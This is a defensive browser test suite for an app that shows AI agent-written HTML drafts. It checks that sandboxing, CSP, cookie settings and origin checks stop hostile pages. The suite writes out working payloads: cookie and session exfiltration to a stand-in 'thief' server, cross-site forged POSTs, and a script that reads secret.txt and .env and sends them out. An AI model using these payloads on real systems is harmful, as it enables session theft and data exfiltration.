// What agents wrote and what other pages send can neither act nor read in our name.
import type { Page, Request } from 'playwright-core';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { theater } from './support/bakery';
import { house } from './support/house';
import type { Project } from './support/project';
import type { Server } from './support/server';
import { Stage } from './support/stage';
import { thief, type Thief } from './support/thief';

const { project: aProject, serve, visit } = house();
let other: Thief;
beforeEach(async () => {
  other = await thief();
});
afterEach(() => other.close());

/** The browser says aloud what it has stopped. */
const STOPPED = /sandbox|Content Security Policy|Refused|Blocked|blocked|denied|40[0-9]|CORS|ERR_FAILED|ERR_BLOCKED/;

/** A page that tries whatever a script, a form, a picture or a header could do. */
const hostile = (thief: string): string => `<!doctype html><html lang="en"><head><title>Bread</title>
<meta http-equiv="refresh" content="0; url=${thief}/refresh">
<link rel="stylesheet" href="${thief}/style.css">
<script src="${thief}/script.js"></script>
<script>
  document.documentElement.dataset.ran = 'yes';
  const tell = (what) => { new Image().src = '${thief}/loot?' + encodeURIComponent(what); };
  try { tell('cookie ' + document.cookie); } catch (e) { tell('cookie no'); }
  try { tell('parent ' + parent.document.body.innerText.length); } catch (e) { tell('parent no'); }
  fetch('/api/session').then((r) => r.text()).then(tell, () => tell('fetch no'));
  try { top.location.href = '${thief}/top'; } catch (e) { tell('top no'); }
  try { open('${thief}/popup'); } catch (e) {}
</script></head><body onload="document.forms[0].submit()"><h1>Bread</h1>
<img src="${thief}/picture.png" alt="" onerror="document.documentElement.dataset.ran = 'yes'">
<iframe src="/api/session" title="inside"></iframe>
<form method="post" action="/api/session"><button autofocus>Order</button></form>
<p>This is all.</p></body></html>`;

/** A theater whose only round has this page, which ends like this. */
async function shipped(html: string, status = 'shipped'): Promise<{ server: Server; run: string; project: Project }> {
  const project = aProject();
  theater(project, 'single', 'play');
  const judges = ['critic', 'brand', 'a11y', 'copy'].map((role) => `<PANELIST role="${role}" score="9"></PANELIST>`);
  project.play('play', {
    perform: [
      '<CRITIQUE_RUN version="1"><ROUND n="1"><PANELIST role="designer"><ARTIFACT mime="text/html"><![CDATA[',
      `${html}]]></ARTIFACT></PANELIST>`,
      ...judges,
      '<ROUND_END n="1" decision="ship"></ROUND_END></ROUND><SHIP round="1" composite="9"><SUMMARY>Done.</SUMMARY></SHIP></CRITIQUE_RUN>',
    ].join('\n'),
  });
  const server = await serve(project);
  const run = await server.begin();
  expect((await server.closed(run)).status).toBe(status);
  return { server, run, project };
}

/** What a tab asked for and was answered, from now on: what the browser stopped was never sent. */
function sent(page: Page): Request[] {
  const all: Request[] = [];
  page.on('response', (response) => all.push(response.request()));
  return all;
}

/** Where a draft is shown, as a person would find it who opens its frame by itself. */
async function addressOf(server: Server, run: string, round: string): Promise<string> {
  const sent = await server.ask(server.at(`runs/${run}/rounds/${round}/preview`), { redirect: 'manual' });
  expect(sent.status).toBe(303);
  return sent.headers.get('location') ?? '';
}

/** Gives whatever might still come the time to come: another page is asked for and shown after it. */
async function settle(page: Page, server: Server): Promise<void> {
  const tab = await page.context().newPage();
  await tab.goto(server.address);
  await tab.locator('header.top').waitFor();
  await tab.waitForLoadState('networkidle');
  await tab.close();
}

describe('a page that an agent wrote', () => {
  test('does harm where nothing stops it, so that the tests below mean something', async () => {
    const project = aProject();
    theater(project, 'seats', 'play');
    const page = await visit(await serve(project), { may: /./ });
    other.page('/hostile', hostile(`http://127.0.0.1:${other.port}`));
    // It goes elsewhere before it is loaded.
    await page.goto(`http://127.0.0.1:${other.port}/hostile`, { waitUntil: 'commit' });
    await expect.poll(() => other.loot).toEqual(
      expect.arrayContaining(['/style.css', '/script.js', '/picture.png', '/api/session', '/top', expect.stringMatching(/^\/loot\?cookie/)]),
    );
  });

  test('does nothing in its frame on the stage', async () => {
    const { server, run } = await shipped(hostile(`http://127.0.0.1:${other.port}`));
    const page = await visit(server, { may: STOPPED });
    const all = sent(page);
    await Stage.open(page, server, run);
    await page.frameLocator('.preview iframe').getByText('This is all.').waitFor();
    await settle(page, server);

    expect(await page.locator('.preview iframe').getAttribute('sandbox')).toBe('');
    expect(await page.frameLocator('.preview iframe').locator('html').getAttribute('data-ran'), 'no script ran').toBeNull();
    const asked = all.filter((request) => request.frame() !== page.mainFrame());
    expect(asked.map((request) => new URL(request.url()).pathname)).toEqual([
      server.at(`runs/${run}/rounds/1/preview`),
      expect.stringMatching(/^\/preview\/.*\/draft\.html$/),
    ]);
    expect(page.url(), 'we are still where we were').toBe(`${server.address}/#/runs/${run}`);
    expect(page.context().pages()).toHaveLength(1);
    expect(other.loot).toEqual([]);
  });

  test('does nothing as a document of its own', async () => {
    const { server, run } = await shipped(hostile(`http://127.0.0.1:${other.port}`));
    const page = await visit(server, { may: STOPPED });
    await page.waitForLoadState('networkidle').catch(() => undefined);
    for (const round of ['1', 'shipped']) {
      await page.goto('about:blank');
      const all = sent(page);
      const answer = await page.goto(`${server.address}${await addressOf(server, run, round)}`);
      expect(answer?.headers()['content-security-policy']).toMatch(/^sandbox; default-src 'none'/);
      await page.getByText('This is all.').waitFor();
      await settle(page, server);
      expect(await page.locator('html').getAttribute('data-ran'), 'no script ran').toBeNull();
      const asked = all.map((request) => new URL(request.url()).pathname).filter((path) => path !== '/favicon.ico');
      expect(asked).toEqual([expect.stringMatching(/^\/preview\/.*\/draft\.html$/)]);
    }
    expect(page.context().pages()).toHaveLength(1);
    expect(other.loot).toEqual([]);
  });

  test('is text wherever it is not in a frame', async () => {
    const { server, run } = await shipped(hostile(`http://127.0.0.1:${other.port}`));
    const page = await visit(server, { may: STOPPED });
    const half = await page.evaluate(() => localStorage.getItem('tribunal.key'));
    for (const rest of [`runs/${run}/rounds/1/artifact`, `runs/${run}/cues`]) {
      const answer = await page.goto(`${server.address}${server.at(rest)}?key=${half}`).catch(() => null);
      if (answer) expect(answer.status()).toBe(200);
      // NDJSON is saved, not shown; text is shown as text.
      if (answer) expect(answer.headers()['content-type']).toMatch(/^text\/plain/);
      expect(await page.locator('h1').count()).toBe(0);
    }
    expect(other.loot).toEqual([]);
  });
});

describe('a page of somebody else', () => {
  /** What it sends: as a script would, as a form would, and as a script that asks for nothing special. */
  const attack = (target: string, runs: string): string => `<!doctype html><title>Elsewhere</title>
<form id="form" method="post" enctype="text/plain" action="${target}${runs}" target="away">
<input name='{"brief":"stolen","assets":[],"source":null,"x":"' value='"}'></form><iframe name="away"></iframe>
<iframe name="page" src="${target}/"></iframe>
<script>
window.results = (async () => {
  const body = JSON.stringify({ brief: 'stolen', assets: [], source: null });
  const send = (init) => fetch('${target}${runs}', { method: 'POST', credentials: 'include', body, ...init }).then((r) => r.type + ' ' + r.status, () => 'refused');
  const results = [
    await send({ headers: { 'content-type': 'application/json', 'idempotency-key': crypto.randomUUID?.() ?? '1' } }),
    await send({ mode: 'no-cors', headers: { 'content-type': 'text/plain' } }),
    await fetch('${target}/api/session', { credentials: 'include' }).then((r) => r.text(), () => 'refused'),
  ];
  const source = new EventSource('${target}${runs.replace(/runs$/, 'events')}', { withCredentials: true });
  results.push(await new Promise((done) => { source.onerror = () => done('refused'); source.onopen = () => done('open'); }));
  source.close();
  document.getElementById('form').submit();
  return results;
})();
</script>`;

  // The same machine by another port shares our cookies, and by another name it does not; neither may anything.
  test.each([
    ['another port', '127.0.0.1', '127.0.0.1', true],
    ['another name', 'localhost', '127.0.0.1', false],
    ['another port, our other name', '127.0.0.1', 'localhost', false],
  ])('%s: changes nothing and reads nothing', async (_, from, to, hasCookie) => {
    const project = aProject();
    theater(project, 'seats', 'play');
    const server = await serve(project);
    const page = await visit(server, { may: STOPPED });
    const target = `http://${to}:${server.port}`;
    other.page('/attack', attack(target, server.at('runs')));
    const statuses: number[] = [];
    page.on('response', (response) => {
      if (response.request().method() === 'POST') statuses.push(response.status());
    });
    const formSent = page.waitForResponse((response) => response.request().method() === 'POST' && response.request().isNavigationRequest());
    await page.goto(`http://${from}:${other.port}/attack`);
    const results = await page.evaluate<string[]>('window.results');
    const [asJson, asText, session, events] = results;
    expect([asJson, session, events]).toEqual(['refused', 'refused', 'refused']);
    expect(['refused', 'opaque 0'], 'what was sent cannot be seen').toContain(asText);
    const form = await formSent;
    expect('cookie' in (await form.request().allHeaders()), 'whether the browser would have signed it for us').toBe(hasCookie);
    expect(form.status()).toBe(403);
    for (const status of statuses) expect(status).toBe(403);
    expect(page.frame({ name: 'page' })?.url() ?? '', 'nobody frames us').not.toBe(`${target}/`);
    expect(await server.runs(), 'nothing happened').toEqual([]);
  });
});

test('the token is nowhere that a script could find it', async () => {
  const project = aProject();
  theater(project, 'seats', 'play');
  const server = await serve(project);
  const page = await visit(server);
  await page.getByText('No runs yet').waitFor();
  const found = await page.evaluate(() => ({
    cookie: document.cookie,
    address: location.href,
    referrer: document.referrer,
    document: document.documentElement.outerHTML,
    local: JSON.stringify(localStorage),
    session: JSON.stringify(sessionStorage),
    state: JSON.stringify(history.state),
    timing: JSON.stringify(performance.getEntries()),
  }));
  for (const [place, text] of Object.entries(found)) expect(text, place).not.toContain(server.token);
  expect(found.cookie).toBe('');
  const [cookie] = await page.context().cookies();
  expect(cookie).toMatchObject({ httpOnly: true, sameSite: 'Strict' });
  expect(cookie?.value).not.toContain(server.token);
  expect(cookie?.expires, 'it ends').toBeLessThan(Date.now() / 1000 + 8 * 24 * 3600);

  const stranger = await page.context().browser()?.newPage();
  await stranger?.goto(server.address);
  await stranger?.getByRole('heading', { name: 'This browser is not signed in' }).waitFor();
  await stranger?.close();
});

test('what another server of this machine is given opens nothing', async () => {
  const project = aProject();
  theater(project, 'seats', 'play');
  const server = await serve(project);
  const page = await visit(server);
  await page.getByText('No runs yet').waitFor();
  // Browsers do not tell the ports of one host apart: the cookie goes to whoever listens there.
  const got = page.waitForRequest(`http://127.0.0.1:${other.port}/page`);
  other.page('/page', '<!doctype html><title>Elsewhere</title>');
  await page.goto(`http://127.0.0.1:${other.port}/page`);
  const cookie = (await (await got).allHeaders()).cookie ?? '';
  expect(cookie, 'so that this test means something').toContain(`tribunal_${server.port}=`);
  expect(cookie).not.toContain(server.token);
  const value = cookie.replace(/^.*?=/, '');
  for (const headers of [{ cookie }, { cookie, 'x-tribunal-key': value }, { authorization: `Bearer ${value}` }]) {
    const answer = await fetch(`${server.address}/api/session`, { headers: headers as Record<string, string> });
    expect(answer.status).toBe(401);
  }
  // The person who was here all the time still is.
  await page.goto(server.address);
  await page.getByText('No runs yet').waitFor();
});

describe('a page beside the project’s files', () => {
  const PIXEL = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==', 'base64');
  const draft = (thief: string): string => `<!doctype html><html lang="en"><head><title>Bread</title>
<meta name="referrer" content="unsafe-url"><link rel="stylesheet" href="art/bread.css">
<script>fetch('secret.txt').then((r) => r.text()).then((text) => { new Image().src = '${thief}/loot?' + text; });</script>
</head><body><h1>Bread</h1><img id="ours" src="art/bread.svg" alt=""><img id="hidden" src=".env" alt=""><img id="text" src="secret.txt" alt="">
<img src="${thief}/picture.png" alt=""><iframe src="secret.txt" title="inside"></iframe><object data="secret.txt"></object>
<p id="styled">This is all.</p></body></html>`;

  test('shows them, and can neither read them nor send them away', async () => {
    // Its links lead to nothing that there is, so it does not ship; it is shown all the same.
    const { server, run, project } = await shipped(draft(`http://127.0.0.1:${other.port}`), 'below_threshold');
    const rule = `@import url(http://127.0.0.1:${other.port}/more.css); #styled { color: rgb(1, 2, 3); background: url(http://127.0.0.1:${other.port}/spy.png) }`;
    project.write('art/bread.css', rule);
    project.write('art/bread.svg', '<svg xmlns="http://www.w3.org/2000/svg" width="7" height="5"><script>fetch("/api/session")</script></svg>');
    project.write('secret.txt', 'TOP SECRET');
    project.write('.env', PIXEL.toString());
    const page = await visit(server, { may: STOPPED });
    const all = sent(page);
    await Stage.open(page, server, run);
    const frame = page.frameLocator('.preview iframe');
    await frame.getByText('This is all.').waitFor();
    await settle(page, server);
    const widthOf = (id: string): Promise<number> => frame.locator(id).evaluate((img) => (img as HTMLImageElement).naturalWidth);
    expect(await frame.locator('#styled').evaluate((text) => getComputedStyle(text).color), 'the style sheet holds').toBe('rgb(1, 2, 3)');
    expect(await widthOf('#ours'), 'the picture is seen').toBe(7);
    expect([await widthOf('#hidden'), await widthOf('#text')]).toEqual([0, 0]);
    expect(other.loot, 'nothing went elsewhere').toEqual([]);
    const asked = all.filter((request) => request.frame() !== page.mainFrame() && new URL(request.url()).pathname.includes('secret'));
    for (const request of asked) expect((await request.response())?.status()).toBe(404);
  });
});
